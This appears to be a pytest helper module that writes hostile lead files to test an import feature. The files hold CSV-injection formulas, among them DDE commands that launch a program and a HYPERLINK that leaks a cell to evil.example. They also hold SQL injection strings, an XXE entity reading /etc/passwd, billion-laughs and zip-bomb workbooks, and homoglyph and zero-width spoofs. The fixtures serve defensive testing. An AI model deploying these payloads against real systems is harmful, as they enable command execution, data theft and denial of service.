"""Hostile lead files, generated in a test's folder (only tiny fixtures live in tests/data).

Each builder takes the path to write and returns it. The workbooks are written
part by part, not with a spreadsheet library, so a test can make them lie:
a ``<dimension>`` that does not match the cells, a value in XFD1048576, a DTD.

Importable from every test under ``tests/unit`` (pytest puts this folder on the
path for its ``conftest.py``).
"""

from __future__ import annotations

import csv
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path
from xml.sax.saxutils import escape

# Spreadsheet formulas as CSV injection uses them: commands (DDE), links that leak a
# cell, and the other characters a spreadsheet starts a formula with.
FORMULA_PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
)
LEAD_HEADERS = (
    "First Name", "Last Name", "Email", "Company", "Job Title", "Phone", "Country", "State",
    "City", "Notes",
)  # fmt: skip
SQL_TEXT = ("Robert'); DROP TABLE leads;--", "' OR 1=1 --")
ZERO_WIDTH = ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff")


def lead_row(n: int) -> list[str]:
    """An ordinary lead, different for every ``n``."""
    return [
        f"Ada{n:03d}", "Lovelace", f"ada{n:03d}@example.com", "Analytical Engines", "Engineer",
        f"+1 212 555 {n % 10000:04d}", "US", "NY", "New York", "met at the booth",
    ]  # fmt: skip


def formula_rows() -> list[list[str]]:
    """A header and, for every column and payload, a lead with the payload in that column.

    A last row holds a payload in every column at once (no usable e-mail or phone,
    so it is rejected, and kept as read).
    """
    rows = [list(LEAD_HEADERS)]
    n = 0
    for column in range(len(LEAD_HEADERS)):
        for payload in FORMULA_PAYLOADS:
            n += 1
            row = lead_row(n)
            row[column] = payload
            rows.append(row)
    rows.append([FORMULA_PAYLOADS[0]] * len(LEAD_HEADERS))
    return rows


def write_csv(path: Path, rows: Sequence[Sequence[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    return path


# ------------------------------------------------------------------ workbooks, part by part

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
    '+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)
_PACKAGE_RELS = (
    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_RELS}">'
    f'<Relationship Id="rId1" Type="{_DOC}/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_WORKBOOK = (
    f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_MAIN}" xmlns:r="{_DOC}">'
    '<sheets><sheet name="Leads" sheetId="1" r:id="rId1"/></sheets></workbook>'
)


def column_letters(number: int) -> str:
    letters = ""
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


Cell = str | tuple[str, str]  # text, or (formula, the value it shows)


def sheet_xml(
    rows: Sequence[Sequence[Cell]],
    *,
    dimension: str | None = None,
    prolog: str = "",
    more: str = "",
) -> bytes:
    """A worksheet part: ``rows`` from A1 as inline strings, then ``more`` raw XML rows."""
    parts = [f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="{_MAIN}">']
    if dimension:
        parts.append(f'<dimension ref="{dimension}"/>')
    parts.append("<sheetData>")
    for number, row in enumerate(rows, 1):
        parts.append(f'<row r="{number}">')
        for index, cell in enumerate(row, 1):
            ref = f"{column_letters(index)}{number}"
            if isinstance(cell, tuple):
                formula, shown = cell
                parts.append(f'<c r="{ref}" t="str"><f>{escape(formula)}</f>'
                             f"<v>{escape(shown)}</v></c>")  # fmt: skip
            elif cell:
                text = escape(cell, {"\r": "&#13;", "\t": "&#9;"})
                parts.append(f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{text}'
                             "</t></is></c>")  # fmt: skip
        parts.append("</row>")
    parts.append(f"{more}</sheetData></worksheet>")
    return "".join(parts).encode("utf-8")


def write_xlsx(
    path: Path,
    sheet: bytes,
    *,
    sheet_part: str = "xl/worksheets/sheet1.xml",
) -> Path:
    """A one-sheet workbook ("Leads") whose worksheet part is ``sheet``, as given."""
    target = sheet_part.removeprefix("xl/")
    workbook_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_RELS}">'
        f'<Relationship Id="rId1" Type="{_DOC}/worksheet" Target="{target}"/></Relationships>'
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml", _CONTENT_TYPES)
        book.writestr("_rels/.rels", _PACKAGE_RELS)
        book.writestr("xl/workbook.xml", _WORKBOOK)
        book.writestr("xl/_rels/workbook.xml.rels", workbook_rels)
        book.writestr(sheet_part, sheet)
    return path


_ODS_MIME = "application/vnd.oasis.opendocument.spreadsheet"
_MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
    '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
    f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{_ODS_MIME}"/>'
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    "</manifest:manifest>"
)


def ods_rows(rows: Sequence[Sequence[str]]) -> str:
    """Table rows of string cells, as OpenDocument writes them."""
    cells = "".join(
        "<table:table-row>"
        + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{escape(cell)}</text:p>'
            "</table:table-cell>"
            for cell in row
        )
        + "</table:table-row>"
        for row in rows
    )
    return cells


def write_ods(path: Path, table: str, *, prolog: str = "") -> Path:
    """A one-table OpenDocument spreadsheet ("Leads") whose table holds ``table`` (raw XML)."""
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<office:document-content'
        ' xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        '<office:body><office:spreadsheet><table:table table:name="Leads">'
        f"{table}</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr(zipfile.ZipInfo("mimetype"), _ODS_MIME, compress_type=zipfile.ZIP_STORED)
        book.writestr("META-INF/manifest.xml", _MANIFEST)
        book.writestr("content.xml", content)
    return path


# ------------------------------------------------------------------ the hostile files

SHORT_HEADERS = ["First Name", "Last Name", "Email", "Company"]
TWO_LEADS = [
    ["Ada", "Lovelace", "ada@example.com", "Analytical Engines"],
    ["Grace", "Hopper", "grace@example.com", "Navy Labs"],
]
BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10 if n > 1 else "&lol;" * 10}">'
        for n in range(1, 10)
    )
    + "]>"
)
EXTERNAL_ENTITY = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def formula_csv(path: Path) -> Path:
    return write_csv(path, formula_rows())


def formula_xlsx(path: Path) -> Path:
    """The payloads as text cells, and one real formula cell (its shown value is read)."""
    rows: list[list[Cell]] = [list(row) for row in formula_rows()]
    rows[1][9] = ('HYPERLINK("http://evil.example/","x")', "Click here")
    return write_xlsx(path, sheet_xml(rows))


def sql_csv(path: Path) -> Path:
    robert, always = SQL_TEXT
    return write_csv(path, [
        list(LEAD_HEADERS),
        [robert, "Tables", "bobby.tables@example.com", always, robert, "", "US", "", always,
         f"{robert} {always}"],
        ["Ada", always, "o'reilly'--@example.com", robert, always, "", "US", "", robert, always],
    ])  # fmt: skip


def zero_width_csv(path: Path) -> Path:
    """A lead and its twin with every zero-width character inside the name, e-mail, company."""
    laced = "".join(f"{char}x" for char in ZERO_WIDTH)  # each invisible in turn
    return write_csv(path, [
        SHORT_HEADERS,
        ["Grace", "Hopper", "grace.hopper@navy.example", "Navy Labs"],
        ["Gr\u200bace", "Hop\u200cper\u2060", "gra\u200dce.hop\ufeffper@na\u200bvy.example",
         "\ufeffNavy\u2060 La\u200dbs"],
        ["Ada", "Lovelace", "ada@example.com", laced],
    ])  # fmt: skip


def homoglyph_csv(path: Path) -> Path:
    return write_csv(path, [
        SHORT_HEADERS,
        ["Pat", "Pal", "pat@p\u0430ypal.com", "PayPal"],  # Cyrillic a
        ["John", "Smith", "j\u043ehn.smith@example.com", "Example"],  # Cyrillic o
        ["Olga", "Ivanova", "olga@\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444", "Primer"],
    ])  # fmt: skip


def wide_csv(columns: int) -> Callable[[Path], Path]:
    def build(path: Path) -> Path:
        extra = [f"Extra {n}" for n in range(1, columns - len(SHORT_HEADERS) + 1)]
        values = [str(n) for n in range(1, len(extra) + 1)]
        return write_csv(path, [SHORT_HEADERS + extra, *(lead + values for lead in TWO_LEADS)])

    return build


def long_field_csv(path: Path) -> Path:
    return write_csv(path, [
        [*SHORT_HEADERS, "Notes"], [*TWO_LEADS[0], "x" * 200_000], [*TWO_LEADS[1], "ok"],
    ])  # fmt: skip


def nul_cell_csv(path: Path) -> Path:
    path.write_bytes(b"First Name,Last Name,Email,Company\nAda,Love\x00lace,ada@example.com,AE\n")
    return path


def nul_run_csv(path: Path) -> Path:
    """3,000 leads, then a run of zero bytes (a damaged disk block), then more leads."""
    lines = ["First Name,Last Name,Email,Company"]
    lines += [f"Ada{n},Lovelace,ada{n}@example.com,AE" for n in range(3000)]
    head = ("\n".join(lines) + "\n").encode()
    tail = b"Grace,Hopper,grace@example.com,Navy\n" * 10
    path.write_bytes(head + b"\x00" * 4096 + tail)
    return path


def _leads_sheet(**options: str) -> bytes:
    return sheet_xml([SHORT_HEADERS, *TWO_LEADS], **options)


def billion_laughs_xlsx(path: Path) -> Path:
    rows = [SHORT_HEADERS, ["&lol9;", *TWO_LEADS[0][1:]]]
    sheet = sheet_xml(rows, prolog=BILLION_LAUGHS).replace(b"&amp;lol9;", b"&lol9;")
    return write_xlsx(path, sheet)


def external_entity_xlsx(path: Path) -> Path:
    rows = [SHORT_HEADERS, ["&x;", *TWO_LEADS[0][1:]]]
    sheet = sheet_xml(rows, prolog=EXTERNAL_ENTITY).replace(b"&amp;x;", b"&x;")
    return write_xlsx(path, sheet)


def billion_laughs_ods(path: Path) -> Path:
    table = ods_rows([SHORT_HEADERS, ["&lol9;", *TWO_LEADS[0][1:]]])
    return write_ods(path, table.replace("&amp;lol9;", "&lol9;"), prolog=BILLION_LAUGHS)


def external_entity_ods(path: Path) -> Path:
    table = ods_rows([SHORT_HEADERS, ["&x;", *TWO_LEADS[0][1:]]])
    return write_ods(path, table.replace("&amp;x;", "&x;"), prolog=EXTERNAL_ENTITY)


def zip_bomb_xlsx(path: Path) -> Path:
    """A worksheet of 100 MB of empty rows, packed into 150 KB."""
    padding = "<row/>" * (100 * 1024 * 1024 // 6)
    return write_xlsx(path, _leads_sheet(more=padding))


def whole_sheet_dimension_xlsx(path: Path) -> Path:
    return write_xlsx(path, _leads_sheet(dimension="A1:XFD1048576"))


def small_dimension_xlsx(path: Path) -> Path:
    rows = [SHORT_HEADERS] + [
        [f"Ada{n}", "Lovelace", f"ada{n}@example.com", "AE"] for n in range(1, 51)
    ]
    return write_xlsx(path, sheet_xml(rows, dimension="A1:B2"))


def far_cell_xlsx(path: Path) -> Path:
    """Two leads and one value in the sheet's last cell, XFD1048576."""
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return write_xlsx(path, _leads_sheet(more=far))


def far_cell_second_r_xlsx(path: Path) -> Path:
    """A small <dimension>, and a cell whose second r (the one the library takes) is far."""
    far = '<row r="3"><c r="D3" r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return write_xlsx(path, sheet_xml([SHORT_HEADERS, TWO_LEADS[0]], dimension="A1:D3", more=far))


def far_row_xlsx(path: Path) -> Path:
    """Two leads and one value a million rows down, in column A."""
    far = '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return write_xlsx(path, _leads_sheet(more=far))


def far_cell_ods(path: Path) -> Path:
    """Two leads and one value repeated to the sheet's edge, as OpenDocument repeats cells."""
    far = (
        '<table:table-row table:number-rows-repeated="1048573"><table:table-cell'
        ' table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p>'
        "</table:table-cell></table:table-row>"
    )
    return write_ods(path, ods_rows([SHORT_HEADERS, *TWO_LEADS]) + far)


def sheet_at_the_cells_limit_xlsx(path: Path) -> Path:
    """Two leads and a value in ALL10000: 10,000 rows by 1,000 columns, the default limit."""
    far = '<row r="10000"><c r="ALL10000" t="inlineStr"><is><t>x</t></is></c></row>'
    return write_xlsx(path, _leads_sheet(more=far))
